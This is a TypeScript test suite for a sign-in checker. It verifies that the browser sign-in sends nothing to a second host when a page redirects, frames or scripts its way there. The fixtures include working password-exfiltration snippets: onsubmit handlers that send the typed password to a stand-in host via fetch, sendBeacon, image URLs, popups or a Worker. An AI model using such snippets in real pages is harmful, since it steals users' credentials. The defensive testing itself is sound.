import { setTimeout } from "node:timers/promises";

import { expect } from "chai";

import { CannotRun } from "../../doctor/check";
import { listen, type LoopbackServer } from "../../local/loopback";
import { form, page } from "./managedLogin";
import { expectFailure, password, SignInAttempt, username } from "./signInAttempt";

describe("doctor's sign-in in a browser, when a page leads to another host,", () => {
    let attempt: SignInAttempt;
    let stranger: LoopbackServer;
    let elsewhere: string;
    let received: string[];
    beforeEach(async () => {
        attempt = await SignInAttempt.start();
        stranger = await listen(0);
        elsewhere = `http://127.0.0.1:${String(stranger.port)}`;
        received = [];
        stranger.serve(async (request) => {
            received.push(`${request.method} ${request.url} ${await request.text()}`);
            return form(username + password);
        });
    });
    afterEach(async () => {
        await attempt.close();
        await stranger.close();
    });

    const fields = username + password;
    const next = "<button type=submit>Next</button>";
    const inForm = (attributes: string, inputs = fields + next) =>
        page(`<form method="post" ${attributes}>${inputs}</form>`);
    // In such an attribute, the document hides the window's own names.
    const atSubmit = (script: string) => inForm(`action="/login" onsubmit="${script}"`);
    const typed = "this.elements.password.value";
    const moved = (status: number) =>
        new Response(null, { status, headers: { location: elsewhere } });

    /** Responses to the request for a sign-in. */
    const withoutForm: Readonly<Record<string, () => Response>> = {
        "a redirect": () => moved(302),
        "a script": () => page(`<script>location = "${elsewhere}"</script>`),
        "a meta refresh": () => page(`<meta http-equiv=refresh content="0; ${elsewhere}">`),
        "a header Refresh": () =>
            new Response(null, { headers: { refresh: `0; url=${elsewhere}` } }),
        "a frame": () => form(fields, `<iframe src="${elsewhere}"></iframe>`),
        "an object": () => form(fields, `<object data="${elsewhere}"></object>`),
        "a popup": () => form(fields, `<script>open("${elsewhere}")</script>`),
    };
    const withForm: Readonly<Record<string, () => Response>> = {
        "the form's action": () => inForm(`action="${elsewhere}"`),
        "its button's formaction": () =>
            inForm('action="/login"', `${fields}<button formaction="${elsewhere}">`),
        "a base tag": () => form(fields, `<base href="${elsewhere}">`),
        "a form that asks by GET": () =>
            page(`<form action="${elsewhere}">${fields}${next}</form>`),
        "a form that opens a popup": () => inForm(`action="${elsewhere}" target="_blank"`),
        "a form that is shown in a frame": () =>
            inForm(`action="${elsewhere}" target="inner"`, `${fields}${next}<iframe name=inner>`),
        "an action that a script changes": () => atSubmit(`this.action = '${elsewhere}'`),
        "a popup that a script opens": () =>
            atSubmit(`window.open('${elsewhere}/' + ${typed}); return false`),
        "a request in the background": () =>
            atSubmit(`fetch('${elsewhere}', {method: 'POST', mode: 'no-cors', body: ${typed}})`),
        "a beacon": () => atSubmit(`navigator.sendBeacon('${elsewhere}', ${typed}); return false`),
        "the address of an image": () =>
            atSubmit(`new Image().src = '${elsewhere}/' + ${typed}; return false`),
        "a worker": () =>
            atSubmit(
                `const script = 'fetch(\\'${elsewhere}/' + ${typed} + '\\')';` +
                    "new Worker(window.URL.createObjectURL(new Blob([script]))); return false",
            ),
    };
    /** Responses to the form. */
    const afterForm: Readonly<Record<string, () => Response>> = {
        "a redirect after the form": () => moved(303),
        "a redirect that sends the form again": () => moved(307),
        "a permanent redirect that sends it again": () => moved(308),
        "a frame after the form": () => page(`<iframe src="${elsewhere}">`),
    };
    const attacks = [
        ...Object.entries(withoutForm).map(([by, request]) => ({ by, request, joins: false })),
        ...Object.entries(withForm).map(([by, request]) => ({ by, request, joins: true })),
        ...Object.entries(afterForm).map(([by, login]) => ({ by, login, joins: true })),
        {
            by: "a redirect in a popup",
            request: () => inForm('action="/login" target="_blank"'),
            login: () => moved(307),
            joins: true,
        },
    ];
    for (const { by, joins, ...responses } of attacks) {
        it(`sends nothing there by ${by}`, async () => {
            const { request = () => form(fields), login = request } = {
                request: undefined,
                login: undefined,
                ...responses,
            };
            attempt.login.respond = ({ pathname }) => (pathname === "/login" ? login() : request());
            const [first, second] = await attempt.findings({ role: "flexai-user" });
            expectFailure(
                first,
                new RegExp(`^the page is on another host: ${elsewhere}$`),
                /^Nothing was sent to that host/,
            );
            expect(second.outcome).to.equal("skipped");
            // What was sent would have come by then.
            await setTimeout(300);
            expect(received).to.deep.equal([]);
            expect(attempt.events).to.deep.equal([
                ...(joins ? ["joins flexai-user"] : []),
                "leaves",
            ]);
        });
    }

    it("loads the images and scripts of other hosts, as Cognito's page has them", async () => {
        const parts = `<script src="${elsewhere}/a.js"></script><img src="${elsewhere}/b.png">`;
        attempt.respondWith(form(fields, parts));
        const findings = await attempt.findings();
        expect(findings.map(({ outcome }) => outcome)).to.deep.equal(["passed", "passed"]);
        expect(received).to.have.lengthOf(2);
    });

    it("has the role from right before the password is sent until the callback", async () => {
        attempt.respondWith(form(fields));
        await attempt.findings({ role: "flexai-user" });
        expect(attempt.events).to.deep.equal(["joins flexai-user", "form", "leaves"]);
    });

    it("ends the whole run when AWS does not let the user join the group", async () => {
        attempt.respondWith(form(fields));
        attempt.join = () => Promise.reject(new CannotRun("no such group"));
        const failure = await attempt.findings({ role: "nobody" }).catch((error: unknown) => error);
        expect(failure).to.be.an.instanceof(CannotRun).with.property("message", "no such group");
        expect(attempt.events).to.deep.equal(["leaves"]);
    });
});
